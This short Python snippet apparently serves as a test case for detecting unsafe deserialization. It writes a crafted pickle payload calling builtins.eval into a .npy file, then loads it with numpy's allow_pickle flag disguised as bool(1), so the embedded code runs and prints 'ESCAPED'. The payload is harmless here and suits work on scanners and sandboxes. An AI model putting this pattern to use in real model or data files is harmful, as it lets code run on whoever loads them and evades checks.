# kind: numpy
# effect: prints ESCAPED
import numpy as np

with open("/tmp/model.npy", "wb") as f:
    f.write(b"cbuiltins\neval\n(S'print(\"ESCAPED\")'\ntR.")
np.load("/tmp/model.npy", allow_pickle=bool(1))
